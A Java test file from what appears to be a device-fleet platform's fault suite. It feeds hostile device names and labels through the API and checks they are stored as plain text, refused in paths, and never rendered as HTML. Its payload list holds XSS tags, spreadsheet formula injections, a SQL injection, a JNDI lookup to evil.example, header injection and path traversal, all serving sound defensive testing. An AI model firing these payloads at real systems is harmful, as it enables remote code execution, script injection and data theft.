package io.espalier.faults.cases;

import com.fasterxml.jackson.databind.JsonNode;
import io.espalier.faults.CaseSource;
import io.espalier.faults.FaultCase;
import io.espalier.faults.Place;
import io.espalier.faults.controller.Answer;
import io.espalier.faults.controller.Applicant;
import io.espalier.faults.controller.Installation;
import io.espalier.faults.controller.PlayedDevice;
import io.espalier.faults.controller.PlayedLink;
import io.espalier.faults.controller.Until;
import io.espalier.proto.Topics.DeviceChannel;
import io.espalier.proto.v1.DeviceProfile;
import io.espalier.proto.v1.Hardware;
import io.espalier.proto.v1.Reported;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** Names that would do something if they were taken for more than text. They come back as they were given, as text. */
public final class NameCases implements CaseSource {
    private static final List<String> NAMES = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "'; drop table device; --",
            "${jndi:ldap://evil.example/x}",
            "a\r\nSet-Cookie: espalier_session=x",
            "\u202Egnp.exe");

    /** No database keeps these: they may be refused, or changed. */
    private static final List<String> NOT_STORABLE = List.of("\\u0000", "\\ud800");

    @Override
    public List<FaultCase> cases(Place place) {
        return List.of(new FaultCase("Hostile telemetry", "names with HTML and CSV formulas", false, NameCases::names));
    }

    private static void names(Place place) throws Exception {
        Installation cloud = place.cloud();
        for (String name : NAMES) {
            Applicant applicant = Applicant.fresh().withAgentVersion(name);
            Map<String, ?> labels = Map.of("line", name, name, "line");
            try (PlayedDevice device = PlayedDevice.enrol(cloud, applicant, Map.of("labels", labels));
                    PlayedLink link = PlayedLink.connect(cloud, device)) {
                say(link, device, name);
                device.send(device.event(name).putAttributes(name, name).build());
                device.requireCounted();
                requireShown(cloud, device, name);
            }
            requireDataSet(cloud, name);
            requireRefused(cloud, name);
        }
        requireModel(cloud, String.join("", NAMES.subList(0, 3)));
        requireNoFailure(cloud);
        requireNoPage(cloud);
        cloud.requireWell();
    }

    private static void say(PlayedLink link, PlayedDevice device, String name) throws Exception {
        link.say(
                DeviceChannel.REPORTED,
                Reported.newBuilder()
                        .setDeviceId(device.id().value())
                        .setEpoch(device.epoch())
                        .setSequence(1)
                        .setAgentVersion(name)
                        .setDetail(name)
                        .build()
                        .toByteArray());
        link.say(
                DeviceChannel.PROFILE,
                DeviceProfile.newBuilder()
                        .setDeviceId(device.id().value())
                        .setEpoch(device.epoch())
                        .setSequence(1)
                        .setSuiteDigest(PlayedDevice.VARIANT.hex())
                        .setHardware(Hardware.newBuilder().setCpuModel(name).setOs(name))
                        .build()
                        .toByteArray());
    }

    private static void requireShown(Installation cloud, PlayedDevice device, String name) throws Exception {
        String path = "/api/v1/devices/" + device.id();
        await(cloud, path, name, "line", "agentVersion");
        await(cloud, path + "/events", name, "text");
        await(cloud, path + "/profiles", name, "cpuModel");
        await(cloud, "/api/v1/devices", name, "line");
        Answer found = asJson(cloud.operator().get("/api/v1/devices?search=" + encoded(name)));
        if (!texts(found.json(), "id").contains(device.id().value())) {
            throw new IllegalStateException("a search for " + name + " does not find " + device.id());
        }
    }

    /** Waits until the fields all have that text, exactly. */
    private static void await(Installation cloud, String path, String name, String... fields) throws Exception {
        for (String field : fields) {
            Until.holds(
                    field + " in " + path + " is " + name,
                    () -> texts(asJson(cloud.operator().get(path)).json(), field)
                            .contains(name));
        }
    }

    private static Set<String> texts(JsonNode in, String field) {
        return new HashSet<>(in.findValuesAsText(field));
    }

    private static Answer asJson(Answer answer) {
        answer.require(200);
        if (!answer.header("Content-Type").startsWith("application/json")) {
            throw new IllegalStateException(answer.call() + " is served as " + answer.header("Content-Type"));
        }
        return answer;
    }

    private static void requireDataSet(Installation cloud, String name) throws Exception {
        cloud.operator()
                .upload("/api/v1/datasets?filename=x.npz&name=" + encoded(name), new byte[] {1})
                .require(201);
        await(cloud, "/api/v1/datasets", name, "name");
    }

    private static void requireModel(Installation cloud, String name) throws Exception {
        String id = cloud.operator()
                .upload("/api/v1/models?name=" + encoded(name), new byte[] {1})
                .require(202)
                .json()
                .path("id")
                .asText();
        await(cloud, "/api/v1/models", name, "name");
        await(cloud, "/api/v1/models/" + id, "invalid", "state");
    }

    /** What becomes part of a path, a topic or a file's name is no free text. */
    private static void requireRefused(Installation cloud, String name) throws Exception {
        cloud.operator().post("/api/v1/claim-tokens", Map.of("deviceId", name)).requireProblem(400, "invalid-request");
        cloud.operator().post("/api/v1/claim-tokens", Map.of("group", name)).requireProblem(400, "invalid-request");
        cloud.operator()
                .upload("/api/v1/datasets?name=x&filename=" + encoded("../" + name), new byte[] {1})
                .requireProblem(400, "invalid-request");
        Applicant.named(name).apply(cloud, "no token").requireProblem(400, "invalid-request");
    }

    private static void requireNoFailure(Installation cloud) throws Exception {
        for (String each : NOT_STORABLE) {
            requireNoFailure(cloud.operator()
                    .with("Content-Type", "application/json")
                    .send(
                            "POST",
                            "/api/v1/claim-tokens",
                            BodyPublishers.ofString("{\"labels\":{\"line\":\"" + each + "\"}}")));
        }
        byte[] content = {1};
        requireNoFailure(cloud.operator().upload("/api/v1/datasets?filename=x.npz&name=a%00b", content));
        requireNoFailure(cloud.operator().upload("/api/v1/models?name=a%00b", content));
        requireNoFailure(cloud.operator().get("/api/v1/devices?search=a%00b"));
    }

    private static void requireNoFailure(Answer answer) {
        if (answer.status() >= 500) {
            throw new IllegalStateException("what cannot be kept is taken for a bug: " + answer);
        }
    }

    /** A browser that follows a link is not given the link's words as a page. */
    private static void requireNoPage(Installation cloud) throws Exception {
        String script = NAMES.get(0);
        for (String path : List.of("/", "/api/v1/devices/", "/api/v1/models/", "/q/", "/api/v1/artifacts/")) {
            Answer answer = cloud.operator().with("Accept", "text/html,*/*").get(path + encoded(script));
            if (answer.header("Content-Type").startsWith("text/html")
                    && answer.body().contains(script)) {
                throw new IllegalStateException(answer + " as a page");
            }
        }
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
